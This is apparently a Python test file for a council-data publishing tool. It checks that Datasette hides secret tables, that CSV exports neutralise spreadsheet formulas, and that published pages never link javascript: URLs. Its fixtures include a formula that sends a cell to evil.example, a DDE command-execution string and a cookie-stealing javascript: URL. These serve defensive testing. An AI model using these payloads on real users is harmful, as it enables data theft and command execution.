"""Exports and metadata that cannot leak (issue 15, point 5): Datasette metadata for whatever the store is called,
spreadsheet formulas neutralised in the CSV, no `javascript:` address ever a link in the published page."""

from __future__ import annotations

import asyncio
import csv
import json

import datasette.app
from click.testing import CliRunner

from cli import main
from publish.build import publish_site
from publish.export import csv_safe
from registry import Council
from review.changes import detect_changes
from review.workflow import confirm
from rules.taxonomy import ALLOWED
from store import open_db
from store.councils import upsert_councils
from tests.test_changes import NOW, findings, store_text

FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
SCRIPT_URL = "javascript:alert(document.cookie)"


def test_datasette_denies_the_secrets_of_a_store_whatever_its_file_is_called(tmp_path):
    store = tmp_path / "council-data.db"
    open_db(store).close()
    meta = tmp_path / "meta.json"
    result = CliRunner().invoke(main, ["export", "--db", str(store), "--out", str(tmp_path / "out"),
                                       "--datasette-metadata", str(meta)], catch_exceptions=False)
    assert result.exit_code == 0 and "'council-data'" in result.output

    async def statuses() -> list[int]:
        server = datasette.app.Datasette([str(store)], metadata=json.loads(meta.read_text(encoding="utf-8")))
        await server.invoke_startup()
        urls = ("/council-data/reviewer", "/council-data/setting", "/council-data?sql=select+*+from+setting",
                "/council-data?sql=select+*+from+reviewer", "/council-data/council")
        return [(await server.client.get(url)).status_code for url in urls]

    assert asyncio.run(statuses()) == [403, 403, 403, 403, 200]


def test_no_database_allows_arbitrary_sql_whatever_its_name(tmp_path):
    from publish.datasette import metadata

    other = tmp_path / "other.db"
    open_db(other).close()

    async def status() -> int:
        server = datasette.app.Datasette([str(other)], metadata=metadata())  # metadata for "ocm", not "other"
        await server.invoke_startup()
        return (await server.client.get("/other?sql=select+*+from+setting")).status_code

    assert asyncio.run(status()) == 403


def test_spreadsheet_formulas_in_names_are_neutralised(db, tmp_path):
    upsert_councils(db, [Council(code="TST", name=FORMULA_NAME, nation="England", website="http://127.0.0.1:9/")])
    store_text(db, "http://127.0.0.1:9/protocol", "Filming is permitted.", findings(ALLOWED))
    (flag,) = detect_changes(db, ["TST"], None, NOW, gone_after=3)
    confirm(db, flag, "@SUM(1+1)*cmd|' /C calc'!A0")
    publish_site(db, tmp_path / "out", now=NOW)
    with (tmp_path / "out" / "published.csv").open(newline="", encoding="utf-8") as handle:
        row = next(csv.DictReader(handle))
    assert row["council_name"] == "'" + FORMULA_NAME and row["reviewer"].startswith("'@")
    assert [csv_safe(v) for v in ("+1", "-1", "\tx", "\rx", "plain", 3)] == ["'+1", "'-1", "'\tx", "'\rx", "plain", 3]
    # The JSON keeps the name as it is: it is data, not a spreadsheet.
    document = json.loads((tmp_path / "out" / "published.json").read_text(encoding="utf-8"))
    assert document["councils"][0]["name"] == FORMULA_NAME


def test_a_javascript_address_is_never_a_link_in_the_published_pages(db, tmp_path):
    upsert_councils(db, [Council(code="TST", name="Testshire", nation="England", website="http://127.0.0.1:9/")])
    store_text(db, SCRIPT_URL, "Filming is permitted.", findings(ALLOWED))
    (flag,) = detect_changes(db, ["TST"], None, NOW, gone_after=3)
    confirm(db, flag, "Ann Reviewer")
    publish_site(db, tmp_path / "out", now=NOW)
    pages = {p: p.read_text(encoding="utf-8") for p in (tmp_path / "out").rglob("*.html")}
    assert len(pages) > 3 and SCRIPT_URL in (tmp_path / "out" / "council" / "TST" / "index.html").read_text()
    assert all('href="javascript' not in page.lower() for page in pages.values())
